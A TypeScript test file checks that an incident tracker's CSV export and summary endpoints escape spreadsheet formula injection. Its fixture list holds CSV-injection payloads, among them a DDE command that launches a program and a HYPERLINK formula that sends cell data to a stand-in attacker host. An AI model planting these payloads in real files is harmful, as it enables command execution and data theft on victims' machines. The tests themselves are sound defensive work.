import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { readCell } from '../../src/kernel/exchange/index.server.ts'
import { type Client, type Desk, desk, q } from '../harness/server.ts'

/** A33: text that a spreadsheet runs when somebody opens an export. */

const formulas = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "'=1+1",
  "''@x",
  'a;=1+1',
  'a\t=1+1',
  '＝1+1',
  '-',
]

let app: Desk
let agent: Client
before(async () => {
  app = await desk()
  const requester = await app.somebody(['requester'], { scopes: ['write'] })
  agent = await app.somebody(['agent'], { scopes: ['write'] })
  for (const title of formulas) assert.equal((await requester.post('/incidents', { title, description: `${title}\n${title}` })).status, 201)
})
after(() => app.close())

const exported = async () => {
  const { text, status } = await agent.get(`/incidents/export${q({ format: 'csv', fields: 'title,description,priority' })}`)
  assert.equal(status, 200, text)
  return text
}

test('no cell of an export begins like a formula, whatever a spreadsheet parts cells at', async () => {
  const text = await exported()
  for (const delimiter of [',', ';', '\t', '|']) {
    for (const line of parse(text, { delimiter, relax_column_count: true, relax_quotes: true }))
      for (const cell of line) assert.doesNotMatch(cell, /^\s*[=+@＝]|^\s*-\D|^-$/, `${delimiter} ${JSON.stringify(cell)}`)
  }
})

test('no cell of a summary begins like a formula, neither the groups nor the heads', async () => {
  const asked = q({ by: 'title', measure: `share:title == "=1+1"`, names: 'true', format: 'csv' })
  const { text, status } = await agent.get(`/incidents/summary${asked}`)
  assert.equal(status, 200, text)
  const lines = parse(text)
  const bands = await agent.get(`/incidents/summary${q({ by: 'openedAt..now:PT1H|P1D', format: 'csv' })}`)
  assert.deepEqual(parse(bands.text), [
    ['openedAt..now:PT1H|P1D', 'count'],
    ['|PT1H', String(formulas.length)],
  ])
  assert.equal(lines.length, formulas.length + 1)
  for (const line of lines) for (const cell of line) assert.doesNotMatch(cell, /^\s*[=+@＝]|^\s*-\D|^-$/, JSON.stringify(cell))
  assert.deepEqual(
    lines
      .slice(1)
      .map(line => readCell(line[0] ?? ''))
      .toSorted(),
    formulas.toSorted(),
  )
})

test('what is read back from an export is what was written', async () => {
  const [, ...lines] = parse(await exported())
  const titles = lines.map(line => readCell(line[1] ?? ''))
  const { body } = await agent.get(`/incidents${q({ limit: 100, fields: 'title' })}`)
  assert.deepEqual(titles.toSorted(), (body.items as { title: string }[]).map(i => i.title).toSorted())
})
